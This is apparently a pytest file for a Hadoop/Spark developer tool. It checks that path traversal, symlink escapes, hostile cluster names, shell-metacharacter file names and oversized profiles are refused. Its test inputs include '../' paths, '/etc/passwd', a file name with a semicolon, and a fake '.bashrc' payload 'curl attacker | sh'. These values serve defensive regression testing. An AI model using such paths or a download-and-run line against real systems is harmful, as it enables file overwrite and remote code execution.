"""Confinement and the Low items of issue 10: nothing outside devenv's own directories is read, written or removed.

Each test reproduces one way a committed profile, a lock or a command line used
to reach outside (or produce a wrong result) and checks it is refused, exit 1,
with a clear message. Docker is faked where a command would reach it.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from conftest import REPO
from devenv import artifacts, confine, docker
from devenv.errors import DevenvError
from devenv.lock import Artifact

SHA = "a" * 64


def _art(path: str, source: str = "maven") -> Artifact:
    return Artifact("hadoop", source, "org.example:lib:jar:1.0", path, 3, SHA)


def test_verify_or_remove_never_deletes_a_file_outside_the_cache(isolated: Path) -> None:
    victim = isolated / "victim.txt"  # the cache is <home>/cache/artifacts/maven: three levels up is <home>
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("precious")
    with pytest.raises(DevenvError) as e:
        artifacts.verify_or_remove(_art("../../../victim.txt"))
    assert "'..'" in e.value.message
    assert victim.read_text() == "precious"


@pytest.mark.parametrize("path", ["/etc/passwd", "C:/x.jar", "a\\..\\..\\x.jar", "a//b.jar", "./a.jar", ""])
def test_cached_path_refuses_paths_that_are_not_plain_relative(path: str) -> None:
    with pytest.raises(DevenvError):
        artifacts.cached_path(_art(path))


def test_cached_path_refuses_a_symlink_leaving_the_cache(isolated: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    artifacts.maven_dir().mkdir(parents=True)
    (artifacts.maven_dir() / "org").symlink_to(outside)
    with pytest.raises(DevenvError) as e:
        artifacts.cached_path(_art("org/x.jar"))
    assert f"leaves {artifacts.maven_dir()}" in e.value.message
    assert artifacts.cached_path(_art("com/x.jar")) == artifacts.maven_dir() / "com" / "x.jar"


def test_an_unknown_source_is_not_taken_for_pypi() -> None:
    with pytest.raises(DevenvError) as e:
        artifacts.cached_path(_art("x.whl", source="npm"))
    assert e.value.message == "org.example:lib:jar:1.0: unknown artifact source 'npm'"


def test_safe_rmtree_removes_only_strictly_inside_its_root(tmp_path: Path) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside"
    (root / "a" / "b").mkdir(parents=True)
    outside.mkdir()
    (root / "link").symlink_to(outside)
    for target in (outside, root, root / "link", root / ".." / "outside"):
        with pytest.raises(DevenvError, match="refusing to remove"):
            confine.safe_rmtree(target, root)
    assert outside.is_dir() and root.is_dir()
    confine.safe_rmtree(root / "a", root)
    assert not (root / "a").exists()


def test_down_volumes_with_a_hostile_name_removes_nothing(cli, isolated: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docker, "containers", lambda cluster=None, **kw: [])
    monkeypatch.setattr(docker, "volumes", lambda cluster=None: [])
    monkeypatch.setattr(docker, "networks", lambda cluster=None: [])
    monkeypatch.setattr(docker, "remove", lambda **kw: None)
    target = isolated / "x"  # <home>/state/clusters/../../x
    target.mkdir(parents=True)
    (target / "keep").write_text("data")
    r = cli("down", "--name", "../../x", "--volumes", "--yes")
    assert r.code == 1 and "Traceback" not in r.err
    assert (target / "keep").read_text() == "data"


def test_down_volumes_refuses_a_cluster_directory_that_links_outside(cli, isolated: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docker, "containers", lambda cluster=None, **kw: [])
    monkeypatch.setattr(docker, "volumes", lambda cluster=None: [])
    monkeypatch.setattr(docker, "networks", lambda cluster=None: [])
    monkeypatch.setattr(docker, "remove", lambda **kw: None)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "keep").write_text("data")
    (isolated / "state" / "clusters").mkdir(parents=True)
    (isolated / "state" / "clusters" / "c1").symlink_to(outside)
    r = cli("down", "--name", "c1", "--volumes", "--yes")
    assert r.code == 1 and "Traceback" not in r.err
    assert "refusing to remove" in r.err
    assert (outside / "keep").read_text() == "data"


def test_a_seed_symlink_made_after_validation_is_refused_when_the_step_runs(tmp_path: Path) -> None:
    from devenv.seed.plan import Step

    d = tmp_path / "prof"
    d.mkdir()
    (tmp_path / "secret").write_text("key")
    (d / "data.csv").symlink_to(tmp_path / "secret")
    step = Step(0, "data.csv", "copy", {"copy": "data.csv", "to": "/data/x"}, d)
    with pytest.raises(DevenvError) as e:
        step.fingerprint()
    assert e.value.message == f"seed[0] data.csv: copy: leaves {d} (it resolves to {(tmp_path / 'secret').resolve()})"


def test_a_seed_job_file_name_is_quoted_in_the_shell_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from test_seed import FakeCluster

    from devenv.seed import steps
    from devenv.seed.plan import Step

    fake = FakeCluster()
    monkeypatch.setattr(docker, "containers", fake.containers)
    monkeypatch.setattr(docker, "exec_in", fake.exec_in)
    monkeypatch.setattr(docker, "copy_to", fake.copy_to)
    (tmp_path / "a b;x.py").write_text("print(1)\n")
    step = Step(0, "j", "pyspark", {"pyspark": "a b;x.py"}, tmp_path)
    steps._run_step(steps._site("c1"), step, None, lambda text: None)  # type: ignore[arg-type]
    [script] = fake.ran("spark-submit")
    assert "spark-submit --name seed-j 'pyspark-0-a b;x.py' \n}" in script


def test_a_profile_over_the_size_cap_is_refused_before_parsing(cli, tmp_path: Path) -> None:
    f = tmp_path / "big.toml"
    f.write_text('schema = 1\nname = "big"\n' + "# padding\n" * 110_000)
    r = cli("profile", "validate", str(f))
    assert r.code == 1 and "Traceback" not in r.err
    assert f"  {f}:1:1: the file is {f.stat().st_size} bytes; devenv reads TOML files of at most 1024 KiB (is this the right file?)" in r.err


def test_a_plain_http_source_is_a_located_warning(cli, tmp_path: Path) -> None:
    f = tmp_path / "p.toml"
    f.write_text('schema = 1\nname = "p"\nextends = "default"\n\n[sources]\nmaven = "http://repo.example/maven2"\n')
    r = cli("profile", "validate", str(f))
    assert r.code == 0, r.err
    assert (f"warning: {f}:6:1: sources.maven: 'http://repo.example/maven2' is plain http://: anyone on the way can read and "
            "change what is downloaded (the lock's sha256 still checks each artifact); use https://") in " ".join(r.err.split())


def test_whole_number_properties_still_accept_digits_in_a_string(cli, tmp_path: Path) -> None:
    f = tmp_path / "p.toml"
    f.write_text('schema = 1\nname = "p"\nextends = "default"\n\n[config.hdfs-site]\n"dfs.replication" = "1"\n')
    assert cli("profile", "validate", str(f)).code == 0


@pytest.fixture
def quoted_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "it's home"
    monkeypatch.setenv("DEVENV_HOME", str(home))
    (home / "state" / "clusters" / "c1" / "client" / "hadoop").mkdir(parents=True)
    (home / "state" / "clusters" / "c1" / "client" / "hadoop" / "core-site.xml").write_text("<configuration/>")
    return home / "state" / "clusters" / "c1" / "client"


def test_client_config_quotes_a_path_with_a_quote_for_sh(cli, quoted_home: Path) -> None:
    r = cli("client-config", "--name", "c1", "--shell", "sh")
    assert r.code == 0, r.err
    q = str(quoted_home).replace("'", "'\\''")
    assert r.out == (f"export HADOOP_CONF_DIR='{q}/hadoop'\nexport SPARK_CONF_DIR='{q}/spark'\n"
                     "export HADOOP_USER_NAME='hadoop'\n")
    back = subprocess.run(["sh", "-c", r.out + 'printf %s "$HADOOP_CONF_DIR"'], capture_output=True, text=True, check=True)
    assert back.stdout == str(quoted_home / "hadoop")


def test_client_config_quotes_a_path_with_a_quote_for_powershell_and_cmd(cli, quoted_home: Path) -> None:
    ps = cli("client-config", "--name", "c1", "--shell", "powershell")
    q = str(quoted_home).replace("'", "''")
    assert ps.out == (f"$env:HADOOP_CONF_DIR = '{q}/hadoop'\n$env:SPARK_CONF_DIR = '{q}/spark'\n"
                      "$env:HADOOP_USER_NAME = 'hadoop'\n")
    cmd = cli("client-config", "--name", "c1", "--shell", "cmd")
    assert cmd.out == (f'set "HADOOP_CONF_DIR={quoted_home}/hadoop"\nset "SPARK_CONF_DIR={quoted_home}/spark"\n'
                       'set "HADOOP_USER_NAME=hadoop"\n')


def test_client_config_refuses_what_cmd_would_expand() -> None:
    from devenv.commands.client_config import assignment

    with pytest.raises(DevenvError):
        assignment("cmd", "HADOOP_CONF_DIR", "C:\\Users\\%USERNAME%\\x")
    assert assignment("powershell", "K", "a\u2019b") == "$env:K = 'a\u2019\u2019b'"


def test_install_ps1_stops_when_a_native_program_fails() -> None:
    text = (REPO / "install.ps1").read_text(encoding="utf-8")
    body = re.search(r"function Invoke-Checked \{\n(.*?)\n\}", text, re.S)
    assert body, "install.ps1 defines Invoke-Checked"
    assert re.search(r"if \(\$LASTEXITCODE -ne 0\) \{[^}]*exit \$LASTEXITCODE", body.group(1), re.S)
    rest = text[body.end():]
    find_python = re.search(r"function Find-Python \{.*?\n\}", rest, re.S)
    rest = rest.replace(find_python.group(0), "")  # probes each candidate and reads $LASTEXITCODE itself
    native = re.compile(r"(?:^|[;{(]\s*|\$\()\s*(?:& \$\w+|pipx |uv |devenv |py |python3? )", re.M)
    assert not [m.group(0) for m in native.finditer(rest)], "every native call goes through Invoke-Checked"
    for what in ("-m pip install", "-m venv", "pipx install", "uv tool install", "devenv --version"):
        lines = [ln for ln in rest.splitlines() if what in ln]
        assert lines and all("Invoke-Checked " in ln for ln in lines), what


from test_artifacts import _fetch, art, repo  # noqa: E402,F401  (repo: the local HTTP repository fixture)


def test_fetch_never_writes_a_file_outside_the_cache(isolated: Path, repo) -> None:
    """issue 10, High 1: a lock path with '..' and the attacker's sha256 made fetch write ~/.bashrc."""
    from devenv.lock import Lock

    evil = b"curl attacker | sh\n"
    a = art("../../../bashrc", evil)  # <home>/cache/artifacts/maven/../../../bashrc is <home>/bashrc
    repo.files = {a.path: evil}
    with pytest.raises(DevenvError) as e:
        _fetch(Lock("p", "x", {}, (a,)), repo)
    assert "'..'" in e.value.message
    assert not (isolated / "bashrc").exists()
